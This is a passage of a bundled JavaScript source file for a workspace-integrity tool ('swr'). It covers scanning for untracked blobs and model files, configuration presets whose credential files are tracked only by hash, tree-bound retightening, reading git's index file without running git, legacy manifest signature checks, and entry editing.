    const blobRequests = blobs.map((p) => ({ path: p, kind: 'blob' }));
    return {
        requests: [...trees, ...scripts, ...blobRequests],
        skipped,
        truncated: ctx.budget.exhausted
    };
}
/** Untracked files of at least BLOB_THRESHOLD bytes, outside volatile and VCS directories. */
function untrackedBlobs(ctx) {
    const out = [];
    const walk = (absDir, relDir) => {
        for (const name of listDir(absDir)) {
            if (!ctx.budget.take())
                return;
            const abs = path.join(absDir, name);
            if (isMetaName(name) || VOLATILE_DIRS.has(name) || ctx.exclude.has(abs))
                continue;
            const rel = joinRel(relDir, name);
            const st = lstatOf(abs);
            if (st?.isDirectory())
                walk(abs, rel);
            else if (st?.isFile() && st.size >= BLOB_THRESHOLD && !ctx.cov.trackedBy(rel))
                out.push(rel);
        }
    };
    walk(ctx.workspace, '');
    return out;
}
/**
 * The tree request for top-level directory `name`, why it is not a source tree, or undefined when
 * it holds nothing of its own (empty, or only what other entries and the ignore rules cover).
 */
function planTree(ctx, name, blobs) {
    const root = path.join(ctx.workspace, name);
    const inner = [
        ...ctx.cov.trackedBelow(name),
        ...blobs.flatMap(b => (b.startsWith(name + '/') ? [b.slice(name.length + 1)] : []))
    ];
    const ignore = [...VOLATILE_DIRS, ...VCS_DIRS, SWR_DIR, ...inner.sort().map(literalRule)];
    const ignored = ignoreMatcher(ignore);
    const markers = TREE_MARKERS.filter(m => {
        const st = lstatOf(path.join(root, m));
        return st?.isFile() === true && st.size > 0 && !ignored(m, m);
    });
    const { source, anyFile } = firstSourceFile(ctx, root, ignored);
    if (!anyFile)
        return undefined;
    if (markers.length === 0 && source === undefined)
        return { why: 'no project marker or source file in it: add it with "swr add" if it matters' };
    const sentinels = [...new Set([...markers.slice(0, 2), ...(source ? [source] : [])])];
    return { path: name, kind: 'tree', ignore, sentinels };
}
/**
 * The first non-empty source file in the tree walk's order, honouring the tree's ignore rules,
 * and whether the tree holds any file at all.
 */
function firstSourceFile(ctx, root, ignored) {
    const budget = scanBudget();
    let anyFile = false;
    const walk = (absDir, relDir) => {
        for (const name of listDir(absDir)) {
            const rel = joinRel(relDir, name);
            const abs = path.join(absDir, name);
            if (!budget.take())
                return undefined;
            if (ctx.exclude.has(abs))
                continue;
            const st = lstatOf(abs);
            if (ignored(rel, name, st?.isDirectory() === true))
                continue;
            if (st?.isDirectory()) {
                const found = walk(abs, rel);
                if (found)
                    return found;
            }
            else if (st) {
                anyFile = true;
                if (st.isFile() && st.size > 0 && SOURCE_FILE.test(name))
                    return rel;
            }
        }
        return undefined;
    };
    const source = walk(root, '');
    return { source, anyFile };
}

;// CONCATENATED MODULE: ./src/core/author/hints.ts
/**
 * Command lines the authoring commands suggest, spelled so they can be pasted into a POSIX shell
 * as they are: every word that is not plainly safe is single-quoted.
 */





function commandLine(words) {
    return words.map(shellQuote).join(' ');
}
function targetWords(t) {
    return [
        ...(t.manifest ? ['-m', t.manifest] : []),
        ...(t.workspace ? ['--workspace', t.workspace] : [])
    ];
}
/** `swr add PATH --ignore ...` as typed from the current directory. */
function addCommand(pathArg, ignore, t = {}) {
    return commandLine([
        'swr',
        'add',
        pathArg,
        ...ignore.flatMap(r => ['--ignore', r]),
        ...targetWords(t)
    ]);
}
/** An entry that nothing can bring back: no recipe, no cache source, no escrowed bytes. */
function lacksRecipe(e) {
    return restoreSources(e).length === 0 && !(e.kind === 'file' && e.escrow);
}
/**
 * How to give a tracked entry a recipe or a cache source: `swr edit`, which validates, follows the
 * editing rules and re-signs when it may, so nobody edits JSON.
 */
function recipeHint(t = {}) {
    const words = targetWords(t).map(shellQuote).join(' ');
    const tail = words ? ` ${words}` : '';
    return `swr edit ID --restore '<shell command>'${tail} (or --add-source-cache KEY for an Actions cache)`;
}
/** For a small file that is no secret: the escrow command that restores it with no recipe. */
function escrowHint(e, t = {}) {
    if (e.kind !== 'file' || e.expect.size > ESCROW_MAX_BYTES || isSecretPath(e.path))
        return undefined;
    return commandLine(['swr', 'escrow', '--only', e.id, ...targetWords(t)]);
}

;// CONCATENATED MODULE: ./src/core/author/models.ts
/**
 * `models`: model weights of any size at or above a threshold, anywhere in the workspace. Unlike
 * the other scans this one enters volatile directories: models usually live in caches
 * (~/.cache/huggingface, ~/.cache/torch) and build outputs, exactly where wipes strike. Only VCS
 * metadata, .swr and swr's own files are skipped. Symlinks are never followed out of the
 * workspace; a model name that is a symlink to a file inside it (the Hugging Face cache keeps
 * `snapshots/<rev>/model.safetensors -> ../../blobs/<sha>`) stands for the file it points to.
 * Tracking records what a check reads (size, head/tail digest), not a full hash, unless asked.
 */











const MODEL_EXTENSIONS = (/* unused pure expression or super */ null && (['.gguf', '.safetensors', '.onnx', '.bin', '.pt', '.pth', '.ckpt']));
const DEFAULT_MIN_MODEL_BYTES = (/* unused pure expression or super */ null && (1024 * 1024));
function isModelName(name) {
    const lower = name.toLowerCase();
    return MODEL_EXTENSIONS.some(ext => lower.endsWith(ext) && lower.length > ext.length);
}
function findModels(workspace, entries, exclude, minBytes) {
    const root = fs.realpathSync(workspace);
    const budget = scanBudget();
    const found = new Map();
    const keep = (m) => {
        if (pathProblem(m.path))
            return;
        const seen = found.get(m.path);
        if (!seen || (seen.via && !m.via))
            found.set(m.path, m);
    };
    const walk = (absDir, relDir) => {
        for (const name of listDir(absDir)) {
            if (!budget.take())
                return;
            const abs = path.join(absDir, name);
            if (isMetaName(name) || exclude.has(abs))
                continue;
            const rel = joinRel(relDir, name);
            const st = lstatOf(abs);
            if (st?.isDirectory())
                walk(abs, rel);
            else if (!st || !isModelName(name))
                continue;
            else if (st.isFile()) {
                if (st.size >= minBytes)
                    keep({ path: rel, bytes: st.size });
            }
            else if (st.isSymbolicLink()) {
                const target = linkedFile(root, abs, minBytes);
                if (target)
                    keep({ ...target, via: rel });
            }
        }
    };
    walk(root, '');
    const cov = coverageOf(entries);
    const models = [...found.values()]
        .map(m => {
        const tracked = cov.trackedBy(m.path);
        return tracked ? { ...m, tracked } : m;
    })
        .sort((a, b) => b.bytes - a.bytes || (a.path < b.path ? -1 : 1));
    return { models, truncated: budget.exhausted };
}
/** The regular file a symlink leads to, when it is inside the workspace and large enough. */
function linkedFile(root, link, minBytes) {
    let real;
    try {
        real = fs.realpathSync(link);
    }
    catch {
        return undefined;
    }
    if (!isInside(root, real) || real === root)
        return undefined;
    const st = lstatOf(real);
    if (!st?.isFile() || st.size < minBytes)
        return undefined;
    return { path: path.relative(root, real).split(path.sep).join('/'), bytes: st.size };
}
/**
 * A tier-3 blob entry for a model: exact size and head/tail digest, which read 2 MiB whatever the
 * size, so tracking a cache of 100 GB takes seconds. The full sha256 (read by `check --deep`)
 * costs reading every byte; `fullHash` records it through the ordinary capture.
 */
async function captureModel(workspace, req, taken, opts) {
    if (opts.fullHash)
        return captureEntry(workspace, { ...req, kind: 'blob', tier: 3 }, taken, {
            pool: opts.pool ?? {}
        });
    if (taken.has(req.id))
        throw idTaken(req.id);
    const loc = locateInside(workspace, req.path);
    if (loc.state !== 'present')
        throw new UsageError(`${req.path}: cannot add: ${loc.why}`);
    if (!loc.st.isFile())
        throw new UsageError(`${req.path}: cannot add as blob: it is not a regular file`);
    const ht = hashHeadTail(loc.abs);
    const expect = { size: ht.size, headtail: ht.sha256, mode: octal(ht.mode) };
    return { entry: { id: req.id, kind: 'blob', path: req.path, tier: 3, needs: [], expect } };
}

;// CONCATENATED MODULE: ./src/core/author/presets.ts
/**
 * Presets: the files common sandboxes keep their setup in (shell profiles, coding-agent settings),
 * as paths relative to $HOME, the workspace of ~/.swr/manifest.json. Only paths that exist and are
 * not tracked yet are added. Secrets among them (see secrets.ts) become tier-0 `file` entries:
 * tracked by hash, never escrowed.
 *
 * Left out on purpose: files the tools rewrite on every run (~/.claude.json with its counters and
 * per-project history, session logs, histories, caches), because a hash of them would fail every
 * check; and large installed payloads (extensions) that a reinstall brings back.
 */








const PRESETS = [
    {
        name: 'shell',
        description: 'shell profiles, git and ssh configuration, and the logins a shell uses',
        paths: [
            '.bashrc',
            '.bash_profile',
            '.bash_login',
            '.bash_logout',
            '.bash_aliases',
            '.profile',
            '.zshrc',
            '.zshenv',
            '.zprofile',
            '.zlogin',
            '.inputrc',
            '.vimrc',
            '.tmux.conf',
            '.config/fish/config.fish',
            '.config/fish/functions',
            '.gitconfig',
            '.config/git/config',
            '.config/git/ignore',
            '.ssh/config',
            '.ssh/authorized_keys',
            '.ssh/id_*',
            '.netrc',
            '.git-credentials',
            '.npmrc',
            '.pypirc',
            '.config/gh/config.yml',
            '.config/gh/hosts.yml'
        ]
    },
    {
        name: 'claude-code',
        description: 'Claude Code: user settings, memory, commands, agents, skills, hooks, login',
        paths: [
            '.claude/settings.json',
            '.claude/settings.local.json',
            '.claude/CLAUDE.md',
            '.claude/commands',
            '.claude/agents',
            '.claude/skills',
            '.claude/hooks',
            '.claude/rules',
            '.claude/output-styles',
            '.claude/.credentials.json'
        ]
    },
    {
        name: 'codex',
        description: 'OpenAI Codex CLI: config.toml, AGENTS.md, prompts, skills, rules, login',
        paths: [
            '.codex/config.toml',
            '.codex/AGENTS.md',
            '.codex/AGENTS.override.md',
            '.codex/prompts',
            '.codex/agents',
            '.codex/skills',
            '.codex/rules',
            '.codex/auth.json'
        ]
    },
    {
        name: 'aider',
        description: 'aider: its configuration files and the .env holding API keys',
        paths: ['.aider.conf.yml', '.aider.model.settings.yml', '.aider.model.metadata.json', '.env']
    },
    {
        name: 'cursor',
        description: 'Cursor: MCP servers, CLI config, editor settings, keybindings, snippets',
        paths: [
            '.cursor/mcp.json',
            '.cursor/cli-config.json',
            '.cursor/rules',
            '.config/Cursor/User/settings.json',
            '.config/Cursor/User/keybindings.json',
            '.config/Cursor/User/snippets'
        ]
    },
    {
        name: 'gemini',
        description: 'Gemini CLI: settings, GEMINI.md, commands, login',
        paths: [
            '.gemini/settings.json',
            '.gemini/GEMINI.md',
            '.gemini/commands',
            '.gemini/oauth_creds.json'
        ]
    }
];
function presetNamed(name) {
    const p = PRESETS.find(x => x.name === name);
    if (!p)
        throw new UsageError(`preset "${name}": unknown (known: ${PRESETS.map(x => x.name).join(', ')})`);
    return p;
}

function planPreset(workspace, preset, entries) {
    const cov = coverageOf(entries);
    const plan = { requests: [], skipped: [], absent: 0 };
    for (const rel of preset.paths.flatMap(p => presets_expand(workspace, p))) {
        const loc = locateInside(workspace, rel);
        if (loc.state === 'missing')
            plan.absent++;
        else if (loc.state === 'escapes')
            plan.skipped.push({ path: rel, why: loc.why });
        else {
            const by = cov.trackedBy(rel);
            const st = loc.st;
            if (by)
                plan.skipped.push({ path: rel, why: `already tracked by "${by.id}"` });
            else if (!st.isFile() && !st.isDirectory() && !st.isSymbolicLink())
                plan.skipped.push({ path: rel, why: 'not a file, directory or symlink' });
            else
                plan.requests.push(requestFor(rel, st.isFile(), st.isDirectory()));
        }
    }
    return plan;
}
function requestFor(rel, isFile, isDir) {
    if (isSecretPath(rel))
        return { path: rel, ...(isFile ? { kind: 'file' } : {}), tier: 0, note: SECRET_NOTE };
    return isDir ? { path: rel, kind: 'tree', ignore: [...VCS_DIRS] } : { path: rel };
}
/** A preset path, or the names its glob matches now (sorted). */
function presets_expand(workspace, p) {
    const base = path.posix.basename(p);
    if (!/[*?[]/.test(base))
        return [p];
    const dir = path.posix.dirname(p);
    const match = picomatch(base, { dot: true });
    return listDir(path.join(workspace, dir))
        .filter(n => match(n))
        .map(n => `${dir}/${n}`);
}

;// CONCATENATED MODULE: ./src/core/author/retighten.ts
/**
 * `retighten`: raise loose tree bounds to what is on disk now, never loosening them. A tree's
 * min_files goes up to the current file count when that is higher, and its max_files comes down
 * to the current count when that is lower (or is set when there was none). Only trees that verify
 * right now are touched: a damaged tree's count is the damage, not the truth.
 */


/** The trees `only` names (every tree without it); a named entry that is no tree is bad usage. */
function treesToRetighten(entries, only) {
    const selected = selectEntries(entries, only);
    const notTrees = only && only.length > 0 ? selected.filter(e => e.kind !== 'tree') : [];
    const first = notTrees[0];
    if (first)
        throw new UsageError(`--only ${first.id}: a ${first.kind} entry has no file-count bounds (retighten changes trees only)`);
    return selected.filter((e) => e.kind === 'tree');
}
/** What to change, given each tree's finding from a check made just now. */
function planRetighten(trees, findings) {
    const byId = new Map(findings.map(f => [f.id, f]));
    const plan = { changes: [], skipped: [] };
    for (const e of trees) {
        const f = byId.get(e.id);
        const files = f?.found.files;
        if (!f || f.status !== 'OK' || typeof files !== 'number') {
            const why = f ? `${f.status}: ${f.detail}` : 'not checked';
            plan.skipped.push({ id: e.id, why: `does not verify now (${why}); repair it first` });
            continue;
        }
        plan.changes.push(...boundChanges(e, files));
    }
    return plan;
}
function boundChanges(e, files) {
    const out = [];
    if (files > e.expect.min_files)
        out.push({ id: e.id, field: 'min_files', from: e.expect.min_files, to: files });
    const max = e.expect.max_files;
    if (max === undefined || files < max)
        out.push({
            id: e.id,
            field: 'max_files',
            from: max ?? null,
            to: Math.max(files, e.expect.min_files)
        });
    return out;
}
/** Apply `changes` to the entries in place. */
function applyRetighten(entries, changes) {
    const byId = new Map(entries.map(e => [e.id, e]));
    for (const c of changes) {
        const e = byId.get(c.id);
        if (e?.kind === 'tree')
            e.expect[c.field] = c.to;
    }
}

;// CONCATENATED MODULE: ./src/core/face/author.ts
// The `author` namespace of the engine's face (src/core/index.ts): what only the shells compose.







;// CONCATENATED MODULE: ./src/core/face/canary.ts
// The `canary` namespace of the engine's face (src/core/index.ts): what only the shells compose.






;// CONCATENATED MODULE: ./src/core/capture/recapture.ts
/**
 * Capturing an entry again after it changed on purpose: new expectations from disk, everything the
 * author declared (recipes, needs, env, note, ignore rules) kept. A tree's sentinels that are gone
 * are dropped (new ones picked when none is left); bounds that followed the old file count follow
 * the new one, and bounds set by hand are kept unless the new count falls outside them.
 */



async function recaptureEntry(workspace, entry, taken, opts, 
/** Keep the entry's sentinels as they are: a missing one is refused, not dropped. */
how = {}) {
    const others = new Set(taken);
    others.delete(entry.id);
    const tree = entry.kind === 'tree' ? entry : undefined;
    const c = await capture_captureEntry(workspace, {
        path: entry.path,
        id: entry.id,
        kind: entry.kind,
        tier: entry.tier,
        ...(tree
            ? {
                ignore: tree.ignore,
                sentinels: how.exactSentinels ? tree.expect.sentinels : liveSentinels(workspace, tree)
            }
            : {}),
        ...(entry.kind === 'blob' ? { fullHash: entry.expect.sha256 !== undefined } : {})
    }, others, opts);
    const expect = tree && c.entry.kind === 'tree' ? bounds(tree, c.entry) : c.entry.expect;
    const next = { ...entry, expect };
    return c.index ? { entry: next, index: c.index } : { entry: next };
}
function liveSentinels(workspace, tree) {
    const root = locate_entry_locateInside(workspace, tree.path);
    if (root.state !== 'present' || !root.st.isDirectory())
        return tree.expect.sentinels;
    const real = external_node_fs_default().realpathSync(root.abs);
    const live = tree.expect.sentinels.filter(s => {
        const loc = locate_entry_locateInside(real, s);
        return loc.state === 'present' && (!loc.st.isFile() || loc.st.size > 0n);
    });
    return live.length > 0 || tree.expect.sentinels.length === 0 ? live : undefined;
}
function bounds(old, now) {
    const files = now.expect.files ?? 0;
    const was = old.expect.files;
    const min = was === undefined || old.expect.min_files === was ? files : old.expect.min_files;
    const oldMax = old.expect.max_files;
    const max = oldMax === undefined || oldMax === was ? files : oldMax;
    return { ...now.expect, min_files: Math.min(min, files), max_files: Math.max(max, files) };
}

;// CONCATENATED MODULE: ./src/core/face/capture.ts
// The `capture` namespace of the engine's face (src/core/index.ts): what only the shells compose.







;// CONCATENATED MODULE: ./src/core/git/index-file.ts
/**
 * The paths git tracks, read from the repository's index file as data. Running `git ls-files`
 * would run the workspace's own configuration (a `core.fsmonitor` there is a command, and
 * `.git/config` is a file that a cache restore or an earlier step can write), inside a step that
 * holds the job's secrets. Reading the index runs nothing.
 *
 * Handled: index versions 2, 3 and 4 (prefix-compressed names), SHA-1 and SHA-256 repositories,
 * sparse directory entries (reported as the directory, with a trailing "/"), a `.git` file that
 * points at the real git directory (worktrees, submodules), and a split index (the shared index's
 * entries are included too: a path it deleted may then count as tracked, which only widens where
 * an annotation may point). Anything that does not parse gives the empty set: tracked paths are
 * an aid to annotations, never a decision.
 */



/** A larger index is not read (the Linux kernel's is ~10 MB). */
const index_file_MAX_INDEX_BYTES = 256 * 1024 * 1024;
const MAX_POINTER_BYTES = 4096;
/** The git directory for a work tree whose top is `top`, or undefined. Never follows `.git` when it is a link. */
function gitDirOf(top) {
    const dotGit = external_node_path_default().join(top, '.git');
    const st = external_node_fs_default().lstatSync(dotGit, { throwIfNoEntry: false });
    if (!st)
        return undefined;
    if (st.isDirectory())
        return dotGit;
    if (!st.isFile() || st.size > MAX_POINTER_BYTES)
        return undefined;
    const m = /^gitdir: (.+?)\r?\n?$/.exec(external_node_fs_default().readFileSync(dotGit, 'utf8'));
    return m?.[1] ? external_node_path_default().resolve(top, m[1]) : undefined;
}
/** The nearest directory at or above `start` holding `.git`. */
function workTreeTop(start) {
    for (let dir = external_node_path_default().resolve(start);; dir = external_node_path_default().dirname(dir)) {
        if (external_node_fs_default().lstatSync(external_node_path_default().join(dir, '.git'), { throwIfNoEntry: false }))
            return dir;
        if (external_node_path_default().dirname(dir) === dir)
            return undefined;
    }
}
function index_file_readBounded(file) {
    let fd;
    try {
        fd = external_node_fs_default().openSync(file, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_NOFOLLOW);
    }
    catch {
        return undefined;
    }
    try {
        const st = external_node_fs_default().fstatSync(fd);
        if (!st.isFile() || st.size > index_file_MAX_INDEX_BYTES)
            return undefined;
        return external_node_fs_default().readFileSync(fd);
    }
    finally {
        external_node_fs_default().closeSync(fd);
    }
}
/** The repository's hash length, from its configuration read as text (nothing in it runs). */
function hashBytes(gitDir) {
    const commonFile = external_node_path_default().join(gitDir, 'commondir');
    let configDir = gitDir;
    const common = external_node_fs_default().lstatSync(commonFile, { throwIfNoEntry: false });
    if (common?.isFile() && common.size < MAX_POINTER_BYTES)
        configDir = external_node_path_default().resolve(gitDir, external_node_fs_default().readFileSync(commonFile, 'utf8').trim());
    const config = index_file_readBounded(external_node_path_default().join(configDir, 'config'));
    return config && /^\s*objectformat\s*=\s*sha256\s*$/im.test(config.toString('utf8')) ? 32 : 20;
}
/** git's offset varint (index v4 name compression). */
function varint(buf, at) {
    let c = buf[at++];
    let value = c & 127;
    while (c & 128) {
        c = buf[at++];
        value = ((value + 1) << 7) | (c & 127);
    }
    return [value, at];
}
const ENTRY_FIXED = 40; // ctime, mtime, dev, ino, mode, uid, gid, size: ten 32-bit words
const EXTENDED = 0x4000;
const S_IFMT = 0o170000;
const S_IFDIR = 0o040000;
/** Parse one index file; throws on anything malformed. */
function index_file_parseIndex(buf, hashLen) {
    if (buf.length < 12 + hashLen || buf.toString('latin1', 0, 4) !== 'DIRC')
        throw new Error('not an index');
    const version = buf.readUInt32BE(4);
    if (version < 2 || version > 4)
        throw new Error(`index version ${version}`);
    const trailer = buf.subarray(buf.length - hashLen);
    const body = buf.subarray(0, buf.length - hashLen);
    // index.skipHash writes a zero trailer; any other trailer must be the body's hash.
    if (trailer.some(b => b !== 0)) {
        const algo = hashLen === 32 ? 'sha256' : 'sha1';
        if (!(0,external_node_crypto_.createHash)(algo).update(body).digest().equals(trailer))
            throw new Error('bad checksum');
    }
    const count = buf.readUInt32BE(8);
    const paths = [];
    let at = 12;
    let prev = Buffer.alloc(0);
    for (let i = 0; i < count; i++) {
        const start = at;
        const mode = body.readUInt32BE(at + 24);
        at += ENTRY_FIXED + hashLen;
        const flags = body.readUInt16BE(at);
        at += 2;
        if (flags & EXTENDED) {
            if (version < 3)
                throw new Error('extended flag in a version 2 index');
            at += 2;
        }
        let name;
        if (version === 4) {
            const [strip, next] = varint(body, at);
            if (strip > prev.length)
                throw new Error('bad name compression');
            const end = body.indexOf(0, next);
            if (end < 0)
                throw new Error('unterminated name');
            name = Buffer.concat([prev.subarray(0, prev.length - strip), body.subarray(next, end)]);
            at = end + 1;
        }
        else {
            const nul = body.indexOf(0, at);
            if (nul < 0)
                throw new Error('unterminated name');
            name = body.subarray(at, nul);
            // Entries are padded with 1-8 NULs to a multiple of eight bytes.
            at = start + ((nul - start + 8) & ~7);
        }
        if (at > body.length)
            throw new Error('entry past the end');
        prev = name;
        const p = name.toString('utf8');
        paths.push((mode & S_IFMT) === S_IFDIR && !p.endsWith('/') ? `${p}/` : p);
    }
    return { paths, ...sharedIndexOf(body, at) };
}
/** The split index's `link` extension names the shared index by its hash. */
function sharedIndexOf(body, at) {
    while (at + 8 <= body.length) {
        const sig = body.toString('latin1', at, at + 4);
        const size = body.readUInt32BE(at + 4);
        if (sig === 'link' && size >= 20) {
            const len = size >= 32 && size % 32 === 0 ? 32 : 20;
            return { shared: body.toString('hex', at + 8, at + 8 + len) };
        }
        at += 8 + size;
    }
    return {};
}
/**
 * Paths tracked by the git work tree that holds `root`, relative to `root` with forward slashes
 * (paths outside `root` are left out). Empty when there is no repository or its index cannot be
 * read.
 */
function trackedPaths(root) {
    const top = workTreeTop(root);
    const gitDir = top === undefined ? undefined : gitDirOf(top);
    if (top === undefined || gitDir === undefined)
        return new Set();
    try {
        const hashLen = hashBytes(gitDir);
        const index = index_file_readBounded(external_node_path_default().join(gitDir, 'index'));
        if (!index)
            return new Set();
        const own = index_file_parseIndex(index, hashLen);
        let all = own.paths;
        if (own.shared && /^[0-9a-f]+$/.test(own.shared)) {
            const shared = index_file_readBounded(external_node_path_default().join(gitDir, `sharedindex.${own.shared}`));
            if (shared)
                all = [...index_file_parseIndex(shared, hashLen).paths, ...all];
        }
        const prefix = external_node_path_default().relative(top, external_node_path_default().resolve(root)).split((external_node_path_default()).sep).join('/');
        const under = prefix === '' ? '' : `${prefix}/`;
        const out = new Set();
        for (const p of all)
            if (p.startsWith(under))
                out.add(p.slice(under.length));
        return out;
    }
    catch {
        return new Set();
    }
}

;// CONCATENATED MODULE: ./src/core/history/advice.ts

/** Only a pattern is worth a line: at least two losses, and at least 30% of the window. */
function isPattern(c) {
    return c.lost >= 2 && c.lost / c.of >= 0.3;
}
function historyAdvice(e, c) {
    if (!isPattern(c))
        return undefined;
    const ideas = [];
    if (e.tier > 0)
        ideas.push(`a lower tier than ${e.tier} so it is restored before what needs it`);
    if (!types_restoreSources(e).some(s => typeof s !== 'string'))
        ideas.push('a cache source ("restore": [{"cache": {...}}, ...]) so it comes back from the Actions cache');
    if (e.kind === 'file' && !e.escrow && e.expect.size <= 256 * 1024)
        ideas.push('escrow ("swr escrow --only ' + e.id + '") so it restores without a recipe');
    const base = `damaged in ${c.lost} of the last ${c.of} recorded checks: this platform does not keep it`;
    return ideas.length > 0 ? `${base}; consider ${ideas.join(', or ')}` : base;
}

;// CONCATENATED MODULE: ./src/core/face/history.ts
// The `history` namespace of the engine's face (src/core/index.ts): what only the shells compose.





;// CONCATENATED MODULE: ./src/core/manifest/legacy-signature.ts
/**
 * Checking the original tool's HMAC signature on a format-2 manifest, so `swr import` can carry
 * trust over. Its signing input was Python's json.dumps(manifest without _sig/_pksig,
 * sort_keys=True, separators=(",", ":"), ensure_ascii=False), and its key the 64 ASCII hex
 * characters of its key file, used as text (not decoded). Its ML-DSA-87 signature (`_pksig`,
 * made with OpenSSL: pure ML-DSA, empty context) covers the same bytes; the signer's public key
 * comes from the user (--legacy-pubkey), never from the manifest.
 */

/** Python's code-point order (JavaScript's default sort compares UTF-16 units). */
function byCodePoint(a, b) {
    const x = [...a];
    const y = [...b];
    for (let i = 0; i < Math.min(x.length, y.length); i++) {
        const d = (x[i]?.codePointAt(0) ?? 0) - (y[i]?.codePointAt(0) ?? 0);
        if (d !== 0)
            return d;
    }
    return x.length - y.length;
}
/**
 * json.dumps(v, sort_keys=True, separators=(",", ":"), ensure_ascii=False). JSON.stringify escapes
 * strings exactly as Python does with ensure_ascii=False (quote, backslash, \b\f\n\r\t, other
 * controls as lowercase \u00xx); the strict reader has already refused floats and lone surrogates.
 */
function pythonCanonical(v) {
    if (v === null || typeof v !== 'object')
        return JSON.stringify(v);
    if (Array.isArray(v))
        return `[${v.map(pythonCanonical).join(',')}]`;
    const keys = Object.keys(v).sort(byCodePoint);
    return `{${keys.map(k => `${JSON.stringify(k)}:${pythonCanonical(v[k])}`).join(',')}}`;
}
function signedText(v2) {
    const body = {};
    for (const [k, x] of Object.entries(v2))
        if (k !== '_sig' && k !== '_pksig')
            body[k] = x;
    return pythonCanonical(body);
}
const MLDSA87_PUBLIC_KEY_BYTES = 2592;
const MLDSA87_SIGNATURE_BYTES = 4627;
/** DER prefix of an ML-DSA-87 SubjectPublicKeyInfo (OpenSSL's PEM public key). */
const SPKI_PREFIX = Buffer.from('30820a32300b060960864801650304031303820a2100', 'hex');
/**
 * The original signer's public key from a file: PEM (as OpenSSL writes it), or the raw key in
 * base64 or hex. Undefined when it is none of these.
 */
function parseLegacyPublicKey(text) {
    const pem = /-----BEGIN PUBLIC KEY-----([\s\S]*?)-----END PUBLIC KEY-----/.exec(text);
    const compact = (pem ? (pem[1] ?? '') : text).replace(/\s+/g, '');
    const raw = /^[0-9a-fA-F]+$/.test(compact)
        ? Buffer.from(compact, 'hex')
        : Buffer.from(compact, 'base64');
    if (raw.length === MLDSA87_PUBLIC_KEY_BYTES)
        return raw;
    if (raw.length === SPKI_PREFIX.length + MLDSA87_PUBLIC_KEY_BYTES &&
        raw.subarray(0, SPKI_PREFIX.length).equals(SPKI_PREFIX))
        return raw.subarray(SPKI_PREFIX.length);
    return undefined;
}
/** Check a format-2 document's `_pksig` (its `sig` or `value`, base64 or hex) under `publicKey`. */
async function verifyLegacyMldsa(v2, publicKey) {
    const s = v2._pksig;
    if (typeof s !== 'object' || s === null || Array.isArray(s))
        return 'absent';
    const text = s.sig ?? s.value;
    if (typeof text !== 'string' || text.length > 2 * MLDSA87_SIGNATURE_BYTES)
        return 'invalid';
    const sig = /^[0-9a-fA-F]+$/.test(text) ? Buffer.from(text, 'hex') : Buffer.from(text, 'base64');
    if (sig.length !== MLDSA87_SIGNATURE_BYTES)
        return 'invalid';
    const { ml_dsa87 } = await __webpack_require__.e(/* import() */ 925).then(__webpack_require__.bind(__webpack_require__, 44925));
    try {
        const msg = Buffer.from(signedText(v2), 'utf8');
        return ml_dsa87.verify(sig, msg, publicKey) ? 'valid' : 'invalid';
    }
    catch {
        return 'invalid';
    }
}
/** Check a format-2 document's `_sig` against the original tool's key file text. */
function verifyLegacyHmac(v2, keyFileText) {
    const sig = v2._sig;
    if (typeof sig !== 'object' || sig === null || Array.isArray(sig))
        return 'absent';
    const value = sig.value;
    if (typeof value !== 'string' || !/^[0-9a-fA-F]{64}$/.test(value))
        return 'invalid';
    const key = Buffer.from(keyFileText.trim(), 'utf8');
    const want = createHmac('sha256', key).update(signedText(v2), 'utf8').digest();
    return timingSafeEqual(want, Buffer.from(value, 'hex')) ? 'valid' : 'invalid';
}

;// CONCATENATED MODULE: ./src/core/manifest/entry-edit.ts
/**
 * Changing an entry's declared fields (recipes, cache sources, environment, smoke, needs, tier,
 * note, tree bounds, ignore rules, sentinels) without touching what was captured from disk, and
 * saying exactly what changed. Pure: the caller loads, validates and saves.
 */


/** Apply `edit` to a copy of `entry`. Throws UsageError naming the flag when it cannot apply. */
function applyEdit(entry, edit) {
    const out = structuredClone(entry);
    const treeOnly = (flag) => {
        if (out.kind !== 'tree')
            throw new UsageError(`${flag}: entry "${entry.id}" is a ${entry.kind}; only trees have it`);
    };
    setRestore(out, edit);
    setList(out, 'env', edit.env, '--env', entry.id);
    setList(out, 'secret_env', edit.secretEnv, '--secret-env', entry.id);
    out.needs = editList(out.needs, edit.needs, '--needs', entry.id);
    setScalar(out, 'timeout_s', edit.timeout, edit.clearTimeout);
    setScalar(out, 'smoke', edit.smoke, edit.clearSmoke);
    setScalar(out, 'smoke_timeout_s', edit.smokeTimeout, edit.clearSmokeTimeout || edit.clearSmoke);
    setScalar(out, 'note', edit.note, edit.clearNote);
    if (edit.tier !== undefined)
        out.tier = edit.tier;
    if (edit.minFiles !== undefined || edit.maxFiles !== undefined || edit.clearMaxFiles) {
        treeOnly(edit.minFiles !== undefined ? '--min-files' : '--max-files');
    }
    if (edit.ignore)
        treeOnly('--ignore');
    if (edit.sentinels)
        treeOnly('--sentinel');
    if (out.kind === 'tree') {
        if (edit.minFiles !== undefined)
            out.expect.min_files = edit.minFiles;
        if (edit.clearMaxFiles)
            delete out.expect.max_files;
        if (edit.maxFiles !== undefined)
            out.expect.max_files = edit.maxFiles;
        out.ignore = editList(out.ignore, edit.ignore, '--ignore', entry.id);
        out.expect.sentinels = editList(out.expect.sentinels, edit.sentinels, '--sentinel', entry.id);
    }
    return out;
}
/**
 * A tree's recorded file count outside its own bounds fails every check of a healthy tree: refuse
 * it when authoring, naming the bound.
 */
function boundsProblem(e) {
    if (e.kind !== 'tree' || e.expect.files === undefined)
        return undefined;
    const { files, min_files: min, max_files: max } = e.expect;
    if (files < min)
        return `entry "${e.id}" field expect.min_files: ${min} is above the ${files} files the tree holds`;
    if (max !== undefined && files > max)
        return `entry "${e.id}" field expect.max_files: ${max} is below the ${files} files the tree holds`;
    return undefined;
}
function setScalar(out, key, value, clear) {
    if (clear)
        delete out[key];
    if (value !== undefined)
        out[key] = value;
}
function setList(out, key, edit, flag, id) {
    if (!edit)
        return;
    const next = editList(out[key] ?? [], edit, flag, id);
    if (next.length === 0)
        delete out[key];
    else
        out[key] = next;
}
function editList(current, edit, flag, id) {
    if (!edit)
        return [...current];
    let next = edit.clear ? [] : [...current];
    for (const d of edit.drop ?? []) {
        if (!next.includes(d))
            throw new UsageError(`--drop-${flag.slice(2)} ${d}: entry "${id}" has no such item`);
        next = next.filter(x => x !== d);
    }
    for (const a of edit.add ?? [])
        if (!next.includes(a))
            next.push(a);
    return next;
}
function setRestore(out, edit) {
